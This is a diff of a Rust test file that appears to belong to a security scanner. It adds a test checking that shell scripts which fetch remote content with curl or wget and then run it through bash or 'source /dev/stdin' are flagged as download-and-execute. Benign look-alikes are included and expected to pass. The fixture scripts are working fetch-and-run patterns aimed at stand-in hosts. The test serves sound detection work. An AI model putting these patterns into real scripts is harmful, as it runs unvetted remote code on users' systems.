@@ -767,3 +767,34 @@ fn javascript_promises_lists_and_functions_by_name_carry_values() {
         "const fs = require('fs');\nconst cp = require('child_process');\nconst read = (p) => new Promise((ok) => fs.readFile(p, 'utf8', (e, t) => ok(t)));\nread('build.txt').then((t) => { const steps = []; steps.push(t.trim()); steps.forEach((s) => cp.execSync(s)); });\n",
     );
 }
+
+#[test]
+fn shell_functions_print_and_take_what_their_callers_give() {
+    // A function's output reaches `$(name)`; its `$1` is its caller's
+    // word; `source /dev/stdin <<<` runs the text.
+    caught(
+        "scripts/a.sh",
+        "fetch_policy() {\n  curl -fsSL --max-time 8 \"$POLICY_URL\" 2>/dev/null || true\n}\napply() {\n  local rules=\"$1\"\n  source /dev/stdin <<<\"$rules\"\n}\npolicy=$(fetch_policy)\napply \"$policy\"\n",
+        Rule::DownloadExec,
+    );
+    caught(
+        "scripts/b.sh",
+        "get() { wget -qO- https://203.0.113.8/p; }\nget | bash -s /dev/stdin\n",
+        Rule::DownloadExec,
+    );
+    caught(
+        "scripts/c.sh",
+        "run_it() { bash -c \"$1\"; }\ncode=\"$(curl -s https://hooks.example.test/h)\"\nrun_it \"$code\"\n",
+        Rule::DownloadExec,
+    );
+    // Look-alikes: a function printing a version, a script's own `$1`
+    // apart from a function's.
+    quiet(
+        "scripts/d.sh",
+        "latest() { curl -fsSL https://api.github.com/repos/cli/cli/releases/latest | jq -r .tag_name; }\nv=$(latest)\necho \"latest: $v\"\n",
+    );
+    quiet(
+        "scripts/e.sh",
+        "say() { printf '%s\\n' \"$1\"; }\nbody=$(curl -s https://api.example.test/status)\nsay \"$body\"\nbash -c \"$1\"\n",
+    );
+}
